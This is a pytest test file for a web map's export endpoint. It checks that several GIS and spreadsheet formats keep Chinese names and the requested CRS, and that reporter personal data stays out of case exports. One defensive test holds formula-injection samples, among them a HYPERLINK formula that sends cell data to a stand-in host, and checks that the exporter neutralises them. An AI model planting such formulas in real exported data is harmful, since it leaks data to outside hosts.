"""Exports (issue #19): every format opens in GDAL with Chinese names intact, in the CRS asked
for; cases with their filters; what the API shows the caller, nothing more."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pandas as pd
import pyogrio
import pytest
from pyproj import Geod

from tests.conftest import keyed
from tests.fixtures import SETTINGS

GEOD = Geod(ellps="WGS84")


@pytest.mark.demo
def test_every_format_opens_with_chinese_names_in_its_crs(demo_url: str, tmp_path: Path) -> None:
    from webmap import create_app

    c = keyed(create_app({"DATABASE_URL": demo_url, "SETTINGS": SETTINGS}), SETTINGS.demo_key)
    total = len(c.get("/api/v1/layers/streets.geojson").get_json()["features"])

    def fetch(query: str, name: str) -> Path:
        r = c.get(f"/api/v1/layers/streets/export?{query}")
        assert r.status_code == 200, r.get_data(as_text=True)[:300]
        f = tmp_path / name
        f.write_bytes(r.data)
        return f

    gpkg = pyogrio.read_dataframe(fetch("format=gpkg", "s.gpkg"))
    assert len(gpkg) == total
    assert "拱宸桥街道" in set(gpkg["name"])
    assert gpkg.crs.to_epsg() == 4326
    cgcs = pyogrio.read_dataframe(fetch("format=gpkg&crs=cgcs2000", "c.gpkg"))
    assert cgcs.crs.to_epsg() == 4490
    shp_zip = fetch("format=shp", "s.zip")
    with zipfile.ZipFile(shp_zip) as z:
        names = set(z.namelist())
        assert {"streets.shp", "streets.dbf", "streets.cpg", "streets.prj"} <= names
        assert z.read("streets.cpg").decode().strip().upper() in ("GBK", "CP936", "936")
        z.extractall(tmp_path / "shp")
    shp = pyogrio.read_dataframe(tmp_path / "shp" / "streets.shp")
    assert "拱宸桥街道" in set(shp["name"])
    csv = fetch("format=csv", "s.csv").read_bytes()
    assert csv.startswith("\ufeff".encode())
    table = pd.read_csv(io.BytesIO(csv), encoding="utf-8-sig")
    assert len(table) == total
    assert table["wkt"].str.startswith("MULTIPOLYGON").all()
    # every column text: GDAL cannot tell the header row itself (Excel can)
    xlsx = pyogrio.read_dataframe(
        fetch("format=xlsx", "s.xlsx"), read_geometry=False, HEADERS="FORCE"
    )
    assert "拱宸桥街道" in set(xlsx["name"])
    gcj = pyogrio.read_dataframe(fetch("format=gpkg&crs=gcj02", "g.gpkg"))
    a, b = (
        gpkg.geometry.iloc[0].exterior
        if False
        else (
            gpkg.geometry.iloc[0].geoms[0].exterior.coords[0],
            gcj.geometry.iloc[0].geoms[0].exterior.coords[0],
        )
    )
    shift = GEOD.inv(a[0], a[1], b[0], b[1])[2]
    assert 100 < shift < 1000  # GCJ-02 lies a few hundred metres off in Hangzhou
    assert c.get("/api/v1/layers/streets/export?format=csv&geometry=lonlat").status_code == 400
    assert c.get("/api/v1/layers/streets/export?status=closed").status_code == 422  # cases only


@pytest.mark.demo
def test_cases_export_with_filters_and_the_callers_areas(demo_url: str, tmp_path: Path) -> None:
    from webmap import create_app

    app = create_app({"DATABASE_URL": demo_url, "SETTINGS": SETTINGS})
    c = keyed(app, SETTINGS.demo_key)
    r = c.get("/api/v1/layers/cases/export?format=csv&geometry=lonlat&category_code=parking")
    table = pd.read_csv(io.BytesIO(r.data), encoding="utf-8-sig")
    assert len(table) > 0
    assert set(table["category_code"]) == {"parking"}
    assert {"lon", "lat"} <= set(table.columns)
    assert not {"reporter_name", "reporter_phone"} & set(table.columns)  # never in a layer
    everything = c.get("/api/v1/layers/cases/export?format=csv").data
    assert len(pd.read_csv(io.BytesIO(everything), encoding="utf-8-sig")) > len(table)
    assert app.test_client().get("/api/v1/layers/cases/export").status_code == 401


def test_csv_and_xlsx_cells_that_begin_like_a_formula_are_text(tmp_path: Path) -> None:
    """A reporter's =HYPERLINK(…) (or +, -, @, a tab, a CR first) reaches a spreadsheet as
    text, with a leading apostrophe; other cells and the geometry column are untouched."""
    import geopandas as gpd
    import shapely

    from data.export import export

    risky = ['=HYPERLINK("http://x.example/"&A2,"查看")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\ry"]
    gdf = gpd.GeoDataFrame(
        {"code": [f"C{i}" for i in range(len(risky) + 1)], "description": [*risky, "路灯不亮"]},
        geometry=[shapely.Point(120.15, 30.3)] * (len(risky) + 1),
        crs=4326,
    )
    csv = pd.read_csv(
        io.BytesIO(export(gdf, "cases", "csv", "wgs84")), encoding="utf-8-sig", dtype=str
    )
    assert [d[0] for d in csv["description"][: len(risky)]] == ["'"] * len(risky)
    assert csv["description"][0] == "'" + risky[0]
    assert csv["description"].iloc[-1] == "路灯不亮"
    assert csv["wkt"].str.startswith("POINT").all()
    f = tmp_path / "c.xlsx"
    f.write_bytes(export(gdf, "cases", "xlsx", "wgs84"))
    xlsx = pyogrio.read_dataframe(f, read_geometry=False, HEADERS="FORCE")
    assert xlsx["description"].iloc[0] == "'" + risky[0]
    assert xlsx["description"].iloc[-1] == "路灯不亮"
